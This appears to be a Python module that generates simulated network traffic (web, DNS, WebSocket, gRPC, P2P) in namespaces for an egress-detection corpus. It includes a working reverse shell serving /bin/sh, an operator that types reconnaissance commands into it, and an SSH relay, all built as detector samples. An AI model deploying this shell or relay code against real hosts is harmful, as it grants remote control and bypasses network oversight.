"""Small real programs the corpus scenarios run inside network namespaces.

`python -m egress.corpus.programs ROLE [options]`; every role is bounded by
`--duration` (seconds) and stops by itself. Roles:

- web-server     HTTP/1.1 (optionally TLS) server: /blob/N (N bytes), /api/N (JSON of about
                 N bytes, also POST), /static/... (files under --root, e.g. a bare git repo for
                 git's dumb HTTP protocol), /ws (WebSocket: pushes a message every
                 --push-interval seconds and answers every client message).
- web-client     HTTP client patterns over TLS or not: bulk, api, pip, npm, ws, llm, telemetry,
                 telemetry-batch, ci-poll, sse, sse-live, longpoll, pubsub-feed, pubsub-ticker.
                 Server paths for the push-style ones: /live (SSE with keep-alive
                 heartbeats), /poll (long polling), /pubsub (WebSocket pub/sub with
                 heartbeats), /ingest (a collector's near-empty answer).
- dns-server     UDP DNS answering A queries; dns-client sends queries with pauses.
- typist         writes shell commands to stdout one keystroke at a time with human timing
                 (pipe it into `ssh -tt` or into a reverse shell).
- reverse-shell  the sandbox side: connects out and serves /bin/sh over the connection.
- shell-operator the outside side: accepts the reverse shell and types commands into it.
- relay          connects out to HOST:PORT and splices it to a local TCP service
                 (role-reversed SSH: the outside runs the SSH client over it).
- accept-pipe    accepts one connection on HOST:PORT and splices it to stdin/stdout
                 (used as the outside SSH client's ProxyCommand).
- fetch-loop     connects to a local port repeatedly and reads/writes (traffic through a tunnel).
- grpc-stream    a long-lived gRPC-like bidirectional stream in HTTP/2 frames (--listen: the
                 service, --connect: the client), optionally TLS with ALPN h2.
- p2p-node       a cryptocurrency peer-to-peer node (Bitcoin framing: version, inv, tx, block,
                 ping): crypto traffic that is not mining, a hard negative.

Only the addresses given on the command line are used (namespace-private addresses).
"""
from __future__ import annotations

import argparse
import json
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from egress.sim.base import ws_frame

BLOB = os.urandom(1 << 20)


def _hostport(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def _server_tls(cert_dir: str) -> ssl.SSLContext:
    from egress.sim.tlscert import self_signed
    cert, key = self_signed("svc.test", cert_dir)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(cert), str(key))
    return ctx


def _client_tls() -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def _stop_after(seconds: float) -> None:
    def bye():
        time.sleep(seconds)
        os._exit(0)
    threading.Thread(target=bye, daemon=True).start()


# --- web server ----------------------------------------------------------------------------

def _ws_read(f) -> bytes | None:
    head = f.read(2)
    if len(head) < 2:
        return None
    n = head[1] & 0x7F
    if n == 126:
        n = struct.unpack("!H", f.read(2))[0]
    elif n == 127:
        n = struct.unpack("!Q", f.read(8))[0]
    key = f.read(4) if head[1] & 0x80 else b""
    data = f.read(n)
    if key:
        data = bytes(b ^ key[i % 4] for i, b in enumerate(data))
    if head[0] & 0x0F == 8:
        return None
    return data


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "nginx/1.24.0"
    sys_version = ""

    def log_message(self, *args):
        pass

    def _send(self, body: bytes, ctype: str = "application/octet-stream") -> None:
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        if n:
            self.rfile.read(n)
        self.do_GET()

    def do_GET(self):
        path = self.path.split("?", 1)[0]
        if path.startswith("/blob/"):
            n = int(path[6:] or 0)
            self.send_response(200)
            self.send_header("Content-Length", str(n))
            self.end_headers()
            while n > 0:
                chunk = BLOB[: min(n, len(BLOB))]
                self.wfile.write(chunk)
                n -= len(chunk)
        elif path.startswith("/api/"):
            n = int(path[5:] or 0)
            body = json.dumps({"ok": True, "data": "x" * max(0, n - 24)}).encode()
            self._send(body, "application/json")
        elif path.startswith("/static/"):
            f = Path(self.server.root) / path[len("/static/"):]
            if f.is_file():
                self._send(f.read_bytes())
            else:
                self.send_error(404)
        elif path == "/ws":
            self._websocket()
        elif path.startswith("/stream/"):
            self._stream(int(path[8:] or 0))
        elif path == "/events":
            self._events()
        elif path == "/live":
            self._live(_query(self.path))
        elif path == "/pubsub":
            self._websocket(pubsub=_query(self.path))
        elif path == "/poll":
            self._poll(_query(self.path))
        elif path == "/jobs/request":
            # a CI coordinator: mostly "no job" (an empty answer), now and then a job spec
            if random.random() < float(_query(self.path).get("p", 0.05)):
                self._send(json.dumps({"id": random.randrange(1 << 31), "steps": ["s" * random.randint(500, 4000)
                                       for _ in range(random.randint(1, 5))]}).encode(), "application/json")
            else:
                self.send_response(204)
                self.send_header("Content-Length", "0")
                self.end_headers()
        elif path == "/ingest":
            self._send(random.choice([b"{}", b'{"partialSuccess":{}}', b""]), "application/json")
        else:
            self.send_error(404)

    def _stream(self, n: int) -> None:
        """A streamed completion: `n` token chunks, a few tens of ms apart (LLM APIs)."""
        rng = random.Random()
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        pace = rng.choice([0.01, 0.02, 0.05])
        for i in range(n):
            data = ("data: " + json.dumps({"id": i, "delta": "t" * rng.randint(2, 60)}) + "\n\n").encode()
            self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
            self.wfile.flush()
            time.sleep(pace * rng.uniform(0.5, 2.0))
        self.wfile.write(b"0\r\n\r\n")

    def _events(self) -> None:
        """Server-sent events for as long as the client listens (build logs, notifications)."""
        rng = random.Random()
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.end_headers()
        interval = self.server.push_interval
        try:
            while True:
                time.sleep(interval * rng.uniform(0.2, 1.8))
                line = "data: " + json.dumps({"log": "l" * rng.randint(20, 500)}) + "\n\n"
                self.wfile.write(line.encode())
                self.wfile.flush()
        except OSError:
            pass
        self.close_connection = True

    def _live(self, q: dict) -> None:
        """Server-sent events with keep-alive comments: a constant-size heartbeat every `hb`
        seconds (proxies close idle streams) and events of varying size at random times,
        sometimes in clusters (a build log, a deploy's status, notifications)."""
        rng = random.Random()
        hb, rate = float(q.get("hb", 15)), float(q.get("rate", 0.2))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.end_headers()
        now = time.time()
        next_hb, next_ev = now + hb, now + rng.expovariate(rate)
        seq = 0
        try:
            while True:
                wake = min(next_hb, next_ev)
                time.sleep(max(0.0, wake - time.time()))
                if next_hb <= next_ev:
                    self.wfile.write(b": keep-alive\n\n")
                    next_hb += hb * rng.uniform(0.98, 1.02)
                else:
                    for _ in range(rng.choice([1, 1, 1, 2, 5])):
                        seq += 1
                        body = json.dumps({"seq": seq, "kind": rng.choice(["log", "status", "note"]),
                                           "text": "e" * int(rng.lognormvariate(4.0, 1.0))})
                        self.wfile.write(("id: %d\nevent: update\ndata: %s\n\n" % (seq, body)).encode())
                    next_ev = time.time() + rng.expovariate(rate)
                self.wfile.flush()
        except OSError:
            pass
        self.close_connection = True

    def _poll(self, q: dict) -> None:
        """Long polling: hold the request until an event (random) or the poll timeout."""
        rng = random.Random()
        wait = rng.expovariate(float(q.get("rate", 0.2)))
        timeout = float(q.get("timeout", 20))
        if wait < timeout:
            time.sleep(wait)
            events = [{"id": rng.randrange(1 << 40), "type": "message", "body": "m" * int(rng.lognormvariate(4.5, 1.0))}
                      for _ in range(rng.choice([1, 1, 2, 3]))]
        else:
            time.sleep(timeout)
            events = []
        self._send(json.dumps({"ok": True, "events": events}).encode(), "application/json")

    def _websocket(self, pubsub: dict | None = None):
        import base64
        import hashlib
        key = self.headers.get("Sec-WebSocket-Key", "")
        accept = base64.b64encode(hashlib.sha1(key.encode() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", accept.decode())
        self.end_headers()
        self.wfile.flush()
        rng = random.Random()
        interval = self.server.push_interval
        sock = self.connection
        lock = threading.Lock()
        alive = [True]
        if pubsub is not None:
            self._pubsub(sock, lock, rng, pubsub)
            return

        def pusher():
            while alive[0]:
                time.sleep(rng.uniform(0.5, 1.5) * interval)
                msg = json.dumps({"type": "update", "seq": rng.randrange(1 << 30),
                                  "payload": "p" * rng.randrange(20, 600)}).encode()
                if not _ws_send(sock, lock, msg):
                    return
        threading.Thread(target=pusher, daemon=True).start()
        self._ws_answer(sock, lock, alive, lambda data: {"type": "ack", "n": len(data)})

    def _ws_answer(self, sock, lock, alive: list, reply) -> None:
        """Answer every client message with reply(message) until the client closes or the
        socket fails; then stop the server-side sender (`alive`) and the connection."""
        while True:
            data = _ws_read(self.rfile)
            if data is None or not _ws_send(sock, lock, json.dumps(reply(data)).encode()):
                break
        alive[0] = False
        self.close_connection = True


    def _pubsub(self, sock, lock, rng, q: dict) -> None:
        """A pub/sub gateway (chat, notifications, market data) over WebSocket: the server
        publishes at random times (mode "feed": sizes vary widely, often in bursts; mode
        "ticker": one quote object whose size varies by a few bytes); every client
        heartbeat gets an immediate constant-size ack; client publishes get an ack."""
        mode, rate = q.get("mode", "feed"), float(q.get("rate", 1.0))
        alive = [True]

        def publisher():
            seq = 0
            while alive[0]:
                time.sleep(rng.expovariate(rate))
                for _ in range(1 if mode == "ticker" else rng.choice([1, 1, 1, 2, 3, 8])):
                    seq += 1
                    if mode == "ticker":
                        d = {"s": rng.choice(["BTCUSD", "ETHUSD", "AAPL", "EURUSD"]),
                             "p": round(rng.uniform(1, 70000), rng.randint(2, 5)), "v": rng.randint(1, 99999),
                             "t": int(time.time() * 1000)}
                    else:
                        d = {"channel": rng.choice(["general", "ops", "ci"]),
                             "text": "c" * int(rng.lognormvariate(4.0, 1.2))}
                    msg = json.dumps({"op": 0, "s": seq, "t": "DISPATCH", "d": d}).encode()
                    if not _ws_send(sock, lock, msg):
                        return
        threading.Thread(target=publisher, daemon=True).start()

        def reply(data: bytes) -> dict:
            try:
                op = json.loads(data).get("op")
            except ValueError:
                op = None
            return {"op": 11} if op == 1 else {"op": 9, "ok": True}
        self._ws_answer(sock, lock, alive, reply)


def _ws_send(sock, lock, msg: bytes) -> bool:
    """One server WebSocket frame (unmasked), serialised with the other sender; False once
    the socket fails."""
    try:
        with lock:
            sock.sendall(ws_frame(msg, mask=False))
    except OSError:
        return False
    return True


def _query(path: str) -> dict:
    from urllib.parse import parse_qsl
    return dict(parse_qsl(path.partition("?")[2]))


def web_server(a) -> None:
    _stop_after(a.duration)
    host, port = _hostport(a.listen)
    srv = ThreadingHTTPServer((host, port), _Handler)
    srv.daemon_threads = True
    srv.root = a.root or "."
    srv.push_interval = a.push_interval
    if a.tls:
        ctx = _server_tls(a.cert_dir)
        srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    print("listening", flush=True)
    srv.serve_forever()


# --- web client ------------------------------------------------------------------------------

def _conn(a):
    import http.client
    host, port = _hostport(a.connect)
    if a.tls:
        return http.client.HTTPSConnection(host, port, context=_client_tls(), timeout=30)
    return http.client.HTTPConnection(host, port, timeout=30)


def _get(c, path: str, body: bytes | None = None) -> int:
    c.request("POST" if body else "GET", path, body=body,
              headers={"User-Agent": "pip/24.0", "Accept": "*/*", "Content-Type": "application/json"})
    r = c.getresponse()
    return len(r.read())


def web_client(a) -> None:
    rng = random.Random(a.seed)
    end = time.time() + a.duration
    if a.pattern == "bulk":
        c = _conn(a)
        for _ in range(rng.randint(1, 3)):
            _get(c, "/blob/%d" % rng.randint(200_000, 3_000_000))
            time.sleep(rng.uniform(0, 0.5))
        c.close()
    elif a.pattern == "api":
        c = _conn(a)
        mean = rng.choice([0.2, 0.5, 1.0, 2.0])
        while time.time() < end:
            body = json.dumps({"q": "x" * rng.randint(50, 2000)}).encode() if rng.random() < 0.6 else None
            _get(c, "/api/%d" % rng.choice([rng.randint(100, 600), rng.randint(600, 8000)]), body)
            time.sleep(min(rng.expovariate(1.0 / mean), 5.0))
        c.close()
    elif a.pattern == "pip":
        for _ in range(rng.randint(1, 2)):
            c = _conn(a)
            for _ in range(rng.randint(2, 6)):
                _get(c, "/api/%d" % rng.randint(5_000, 30_000))
                _get(c, "/blob/%d" % rng.randint(30_000, 900_000))
                time.sleep(rng.uniform(0, 0.2))
                if time.time() > end:
                    break
            c.close()
    elif a.pattern == "npm":
        def worker(seed):
            r = random.Random(seed)
            c = _conn(a)
            for _ in range(r.randint(3, 15)):
                _get(c, "/blob/%d" % r.randint(1_000, 60_000))
                if time.time() > end:
                    break
            c.close()
        threads = [threading.Thread(target=worker, args=(rng.random(),)) for _ in range(rng.randint(3, 8))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    elif a.pattern == "ws":
        _ws_client(a, rng, end)
    elif a.pattern == "llm":
        c = _conn(a)
        while time.time() < end:
            prompt = json.dumps({"messages": [{"role": "user", "content": "p" * rng.randint(300, 8000)}]}).encode()
            _get(c, "/stream/%d" % rng.randint(20, 300), prompt)
            time.sleep(rng.uniform(0.5, 6.0))
        c.close()
    elif a.pattern == "telemetry":
        c = _conn(a)
        interval = rng.choice([0.5, 1.0, 2.0, 5.0])
        size = rng.randint(150, 900)
        while time.time() < end:
            _get(c, "/api/%d" % rng.randint(40, 200), json.dumps({"m": "x" * (size + rng.randint(-20, 20))}).encode())
            time.sleep(interval * rng.uniform(0.8, 1.2))
        c.close()
    elif a.pattern == "telemetry-batch":
        # an exporter flushing a batch every few seconds: the batch grows and shrinks with
        # what the program did; the collector answers with a near-empty body
        c = _conn(a)
        interval = rng.choice([1.0, 2.0, 5.0, 10.0])
        activity = rng.choice([1.0, 3.0])
        while time.time() < end:
            spans = [{"name": "op%d" % rng.randrange(50), "attrs": "a" * rng.randint(10, 200)}
                     for _ in range(max(1, int(rng.lognormvariate(activity, 1.0))))]
            _get(c, "/ingest", json.dumps({"resourceSpans": spans}).encode())
            time.sleep(interval * rng.uniform(0.9, 1.1))
        c.close()
    elif a.pattern == "ci-poll":
        # a CI runner / agent asking its coordinator for work on a fixed timer with the same
        # request every time; with a job it streams its log back for a while
        c = _conn(a)
        interval, p_job = rng.choice([1.0, 3.0, 5.0]), rng.choice([0.02, 0.1])
        body = json.dumps({"token": os.urandom(16).hex(), "info": {"name": "runner-%d" % rng.randrange(999),
                           "version": "16.%d.0" % rng.randrange(12), "features": "f" * rng.randint(50, 400)}}).encode()
        while time.time() < end:
            if _get(c, "/jobs/request?p=%g" % p_job, body) > 0:
                for _ in range(rng.randint(2, 8)):
                    _get(c, "/api/%d" % rng.randint(30, 80), json.dumps({"trace": "t" * rng.randint(100, 6000)}).encode())
                    time.sleep(rng.uniform(0.3, 2.0))
            time.sleep(interval * rng.uniform(0.97, 1.03))
        c.close()
    elif a.pattern == "longpoll":
        c = _conn(a)
        rate, timeout = rng.choice([0.05, 0.2, 1.0]), rng.choice([5, 10, 30])
        while time.time() < end:
            _get(c, "/poll?rate=%g&timeout=%d&cursor=%d" % (rate, timeout, rng.randrange(10 ** 9, 10 ** 10)))
        c.close()
    elif a.pattern in ("pubsub-feed", "pubsub-ticker"):
        _pubsub_client(a, rng, end, a.pattern.split("-")[1])
    elif a.pattern == "sse-live":
        _stream_get(a, "/live?hb=%g&rate=%g" % (rng.choice([1.0, 2.0, 5.0, 15.0]), rng.choice([0.05, 0.3, 1.0])), end)
    elif a.pattern == "sse":
        host, port = _hostport(a.connect)
        s = socket.create_connection((host, port), timeout=30)
        if a.tls:
            s = _client_tls().wrap_socket(s, server_hostname="svc.test")
        s.sendall(b"GET /events HTTP/1.1\r\nHost: svc.test\r\nAccept: text/event-stream\r\n\r\n")
        s.settimeout(1.0)
        while time.time() < end:
            try:
                if not s.recv(65536):
                    break
            except socket.timeout:
                pass
        s.close()


def _stream_get(a, path: str, end: float) -> None:
    host, port = _hostport(a.connect)
    s = socket.create_connection((host, port), timeout=30)
    if a.tls:
        s = _client_tls().wrap_socket(s, server_hostname="svc.test")
    s.sendall(("GET %s HTTP/1.1\r\nHost: svc.test\r\nAccept: text/event-stream\r\n\r\n" % path).encode())
    s.settimeout(1.0)
    while time.time() < end:
        try:
            if not s.recv(65536):
                break
        except socket.timeout:
            pass
    s.close()


def _ws_open(a, path: str):
    import base64
    host, port = _hostport(a.connect)
    s = socket.create_connection((host, port), timeout=30)
    if a.tls:
        s = _client_tls().wrap_socket(s, server_hostname="svc.test")
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET %s HTTP/1.1\r\nHost: svc.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % (path, key)).encode())
    f = s.makefile("rb")
    while f.readline() not in (b"\r\n", b""):
        pass
    return s, f


def _pubsub_client(a, rng, end, mode: str) -> None:
    """Subscribe, then a heartbeat every `hb` seconds (timer-driven, like Discord/Slack/
    Phoenix clients) and now and then a publish of varying size."""
    rate = rng.choice([0.2, 1.0, 3.0]) if mode == "feed" else rng.choice([0.5, 2.0, 5.0])
    s, f = _ws_open(a, "/pubsub?mode=%s&rate=%g" % (mode, rate))
    stop = [False]
    threading.Thread(target=lambda: [None for _ in iter(lambda: None if stop[0] else _ws_read(f), None)],
                     daemon=True).start()
    hb = rng.choice([1.0, 2.5, 5.0, 15.0])
    pub = rng.choice([0.0, 0.05, 0.3])
    seq = 0
    s.sendall(ws_frame(json.dumps({"op": 2, "d": {"token": os.urandom(24).hex(), "topics": ["a", "b"]}}).encode(),
                        mask=True))
    next_hb = time.time() + hb * rng.uniform(0.1, 1.0)
    next_pub = time.time() + (rng.expovariate(pub) if pub else 1e9)
    try:
        while time.time() < end:
            wake = min(next_hb, next_pub, end)
            time.sleep(max(0.0, wake - time.time()))
            if time.time() >= end:
                break
            if next_hb <= next_pub:
                seq += 1
                s.sendall(ws_frame(json.dumps({"op": 1, "d": seq}).encode(), mask=True))
                next_hb += hb
            else:
                s.sendall(ws_frame(json.dumps({"op": 3, "d": {"text": "u" * int(rng.lognormvariate(3.5, 1.0))}})
                                    .encode(), mask=True))
                next_pub = time.time() + rng.expovariate(pub)
    except OSError:
        pass
    stop[0] = True
    s.close()


def _ws_client(a, rng, end) -> None:
    import base64
    host, port = _hostport(a.connect)
    s = socket.create_connection((host, port), timeout=30)
    if a.tls:
        s = _client_tls().wrap_socket(s, server_hostname="svc.test")
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET /ws HTTP/1.1\r\nHost: svc.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % key).encode())
    f = s.makefile("rb")
    while f.readline() not in (b"\r\n", b""):
        pass
    stop = [False]

    def reader():
        while not stop[0]:
            if _ws_read(f) is None:
                return
    threading.Thread(target=reader, daemon=True).start()
    mean = rng.choice([1.0, 3.0, 8.0])
    while time.time() < end:
        time.sleep(min(rng.expovariate(1.0 / mean), max(0.0, end - time.time())))
        try:
            s.sendall(ws_frame(json.dumps({"type": "msg", "text": "t" * rng.randint(5, 300)}).encode(), mask=True))
        except OSError:
            break
    stop[0] = True
    s.close()


# --- DNS -------------------------------------------------------------------------------------

def dns_server(a) -> None:
    _stop_after(a.duration)
    host, port = _hostport(a.listen)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((host, port))
    print("listening", flush=True)
    while True:
        data, peer = s.recvfrom(2048)
        if len(data) < 12:
            continue
        qid = data[:2]
        q = data[12:]
        end = q.find(b"\0") + 5
        question = q[:end]
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton("10.206.255.%d" % (qid[1] % 250))
        s.sendto(qid + b"\x81\x80" + struct.pack("!HHHH", 1, 1, 0, 0) + question + answer, peer)


def dns_client(a) -> None:
    rng = random.Random(a.seed)
    host, port = _hostport(a.connect)
    end = time.time() + a.duration
    names = ["pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "github.com", "api.example.com"]
    while time.time() < end:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)    # a new source port per lookup, like a resolver
        s.settimeout(2)
        name = rng.choice(names) if rng.random() < 0.7 else "h%d.example.net" % rng.randrange(1000)
        q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
        s.sendto(struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1),
                 (host, port))
        try:
            s.recvfrom(2048)
        except OSError:
            pass
        s.close()
        time.sleep(rng.uniform(0.05, 1.5))


# --- keystrokes, shells, relays ------------------------------------------------------------------

COMMANDS = ["ls -la", "pwd", "id", "uname -a", "cat /etc/hostname", "echo hello", "ls /usr/bin | head -40",
            "ps aux | head -20", "df -h", "cat /etc/os-release", "env | sort | head", "whoami",
            "ls -la /tmp", "date", "free -m", "ip addr", "head -c 3000 /etc/services", "find /etc -maxdepth 1 | head -50"]


def typist(a) -> None:
    rng = random.Random(a.seed)
    out = sys.stdout.buffer
    time.sleep(a.initial_wait)
    end = time.time() + a.duration
    while time.time() < end:
        cmd = rng.choice(COMMANDS) + "\n"
        for ch in cmd:
            out.write(ch.encode())
            out.flush()
            time.sleep(rng.uniform(0.04, 0.25) if a.by_key else 0.0)
        time.sleep(rng.uniform(0.5, 3.0))
    out.write(b"exit\n")
    out.flush()
    time.sleep(1.0)


def reverse_shell(a) -> None:
    host, port = _hostport(a.connect)
    s = socket.create_connection((host, port), timeout=10)
    s.settimeout(None)
    if a.tls:
        s = _client_tls().wrap_socket(s, server_hostname="svc.test")
    p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, start_new_session=True)
    _splice_sock_proc(s, p, a.duration)


def _splice_sock_proc(s, p, duration: float) -> None:
    def up():
        while True:
            data = os.read(p.stdout.fileno(), 4096)
            if not data:
                break
            try:
                s.sendall(data)
            except OSError:
                break
    threading.Thread(target=up, daemon=True).start()
    end = time.time() + duration
    try:
        while time.time() < end:
            data = s.recv(4096)
            if not data:
                break
            p.stdin.write(data)
            p.stdin.flush()
    except (OSError, BrokenPipeError):
        pass
    p.kill()
    s.close()


def shell_operator(a) -> None:
    _stop_after(a.duration + 5)
    rng = random.Random(a.seed)
    host, port = _hostport(a.listen)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((host, port))
    ls.listen(1)
    print("listening", flush=True)
    s, _ = ls.accept()
    if a.tls:
        s = _server_tls(a.cert_dir).wrap_socket(s, server_side=True)
    threading.Thread(target=lambda: [None for _ in iter(lambda: s.recv(4096), b"")], daemon=True).start()
    end = time.time() + a.duration
    time.sleep(rng.uniform(0.2, 1.5))
    while time.time() < end:
        cmd = rng.choice(COMMANDS) + "\n"
        if a.by_key:
            for ch in cmd:
                s.sendall(ch.encode())
                time.sleep(rng.uniform(0.03, 0.2))
        else:
            s.sendall(cmd.encode())
        time.sleep(rng.uniform(0.3, 4.0))
    s.sendall(b"exit\n")
    time.sleep(0.5)
    s.close()


def _splice(a_sock, b_sock, end: float) -> None:
    socks = [a_sock, b_sock]
    while time.time() < end:
        r, _, _ = select.select(socks, [], [], 0.5)
        for s in r:
            data = s.recv(65536)
            if not data:
                return
            (b_sock if s is a_sock else a_sock).sendall(data)


def relay(a) -> None:
    host, port = _hostport(a.connect)
    out = socket.create_connection((host, port), timeout=10)
    lh, lp = _hostport(a.to)
    local = socket.create_connection((lh, lp), timeout=10)
    out.settimeout(None)
    local.settimeout(None)
    _splice(out, local, time.time() + a.duration)


def accept_pipe(a) -> None:
    host, port = _hostport(a.listen)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((host, port))
    ls.listen(1)
    ls.settimeout(a.duration)
    s, _ = ls.accept()
    end = time.time() + a.duration
    while time.time() < end:
        r, _, _ = select.select([s, 0], [], [], 0.5)
        if s in r:
            data = s.recv(65536)
            if not data:
                return
            view = memoryview(data)
            while view:
                view = view[os.write(1, view):]
        if 0 in r:
            data = os.read(0, 65536)
            if not data:
                return
            s.sendall(data)


def fetch_loop(a) -> None:
    """Through a tunnel's local end: HTTP GETs of assorted sizes with pauses."""
    import http.client
    rng = random.Random(a.seed)
    host, port = _hostport(a.connect)
    end = time.time() + a.duration
    while time.time() < end:
        try:
            c = http.client.HTTPConnection(host, port, timeout=10)
            for _ in range(rng.randint(1, 4)):
                _get(c, rng.choice(["/api/%d" % rng.randint(100, 5000), "/blob/%d" % rng.randint(1000, 400_000)]))
            c.close()
        except OSError:
            time.sleep(0.3)
        time.sleep(rng.uniform(0.1, 2.5))


# --- a cryptocurrency peer-to-peer node (not mining: a hard negative) --------------------------

def _p2p_msg(command: str, payload: bytes) -> bytes:
    import hashlib
    checksum = hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    return struct.pack("<I12sI", 0xD9B4BEF9, command.encode(), len(payload)) + checksum + payload


def _p2p_talk(sock, rng: random.Random, end: float, initiator: bool) -> None:
    """Bitcoin-style framing: version/verack, then inv/getdata/tx/block relays and ping/pong
    from both sides at random times, as two full nodes do."""
    version = struct.pack("<iQq", 70016, 1, int(time.time())) + os.urandom(52) + b"\x10/Satoshi:25.0.0/" \
        + struct.pack("<i?", 840000, True)
    if initiator:
        sock.sendall(_p2p_msg("version", version))
    sock.settimeout(0.2)
    said_hello = initiator
    activity = rng.choice([0.5, 1.0, 2.0])
    while time.time() < end:
        try:
            data = sock.recv(65536)
            if not data:
                return
            if not said_hello:
                sock.sendall(_p2p_msg("version", version) + _p2p_msg("verack", b""))
                said_hello = True
            elif rng.random() < 0.3:
                sock.sendall(_p2p_msg("getdata", os.urandom(37 * rng.randint(1, 4))))
        except socket.timeout:
            pass
        r = rng.random() / activity
        if r < 0.08:
            sock.sendall(_p2p_msg("inv", b"\x01" + os.urandom(36) * rng.randint(1, 8)))
        elif r < 0.11:
            sock.sendall(_p2p_msg("tx", os.urandom(rng.randint(200, 900))))
        elif r < 0.12:
            sock.sendall(_p2p_msg("block", os.urandom(rng.randint(20_000, 400_000))))
        elif r < 0.135:
            sock.sendall(_p2p_msg("ping", os.urandom(8)))


def _accept_one(a) -> socket.socket:
    """The listening side of a one-connection scenario: bind --listen, say so, accept once
    (and exit by itself shortly after --duration)."""
    _stop_after(a.duration + 5)
    host, port = _hostport(a.listen)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((host, port))
    ls.listen(4)
    print("listening", flush=True)
    return ls.accept()[0]


def p2p_node(a) -> None:
    """--listen: the remote peer; --connect: the local node dialing out."""
    rng = random.Random(a.seed)
    end = time.time() + a.duration
    if a.listen:
        s = _accept_one(a)
        _p2p_talk(s, rng, end, initiator=False)
    else:
        host, port = _hostport(a.connect)
        s = socket.create_connection((host, port), timeout=10)
        _p2p_talk(s, rng, end, initiator=True)
    s.close()


# --- a gRPC-like bidirectional stream (HTTP/2 framing) ------------------------------------------

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
H2_DATA, H2_HEADERS, H2_SETTINGS, H2_PING, H2_WINDOW = 0, 1, 4, 6, 8


def _h2_frame(ftype: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", stream) + payload


def _grpc_msg(n: int) -> bytes:
    body = os.urandom(max(1, n))          # protobuf bytes look random enough for sizes and timing
    return _h2_frame(H2_DATA, 0, 1, b"\0" + struct.pack("!I", len(body)) + body)


class _H2Reader:
    def __init__(self):
        self.buf = b""

    def feed(self, data: bytes):
        self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            yield self.buf[3], self.buf[4], self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]


def _grpc_talk(s, rng: random.Random, end: float, server: bool) -> None:
    """Both ends of a long-lived stream (a job runner's control channel, a config/watch
    stream, a streaming RPC): each side sends messages of varying size at random times,
    keepalive PINGs on a timer get an immediate PING ACK, consumed data earns WINDOW_UPDATEs."""
    rate = rng.choice([0.1, 0.5, 2.0])
    keepalive = rng.choice([0.0, 1.0, 5.0, 10.0])
    size_mu = rng.choice([4.0, 5.5, 7.0])
    reader = _H2Reader()
    consumed = 0
    now = time.time()
    next_msg = now + rng.expovariate(rate)
    next_ping = now + keepalive if keepalive else 1e18
    s.setblocking(False)
    while time.time() < end:
        wait = max(0.0, min(next_msg, next_ping, end) - time.time())
        pending = s.pending() if hasattr(s, "pending") else 0      # TLS may hold decrypted bytes
        r, _, _ = select.select([s], [], [], 0.0 if pending else wait)
        out = b""
        if r or pending:
            try:
                data = s.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError):
                data = None
            if data == b"":
                return
            for ftype, flags, payload in reader.feed(data or b""):
                if ftype == H2_PING and not flags & 1:
                    out += _h2_frame(H2_PING, 1, 0, payload)
                elif ftype == H2_SETTINGS and not flags & 1:
                    out += _h2_frame(H2_SETTINGS, 1, 0, b"")
                elif ftype == H2_DATA:
                    consumed += len(payload)
                    if consumed > 16384:
                        out += _h2_frame(H2_WINDOW, 0, 0, struct.pack("!I", consumed))
                        consumed = 0
        t = time.time()
        if t >= next_msg:
            for _ in range(rng.choice([1, 1, 1, 2, 4])):
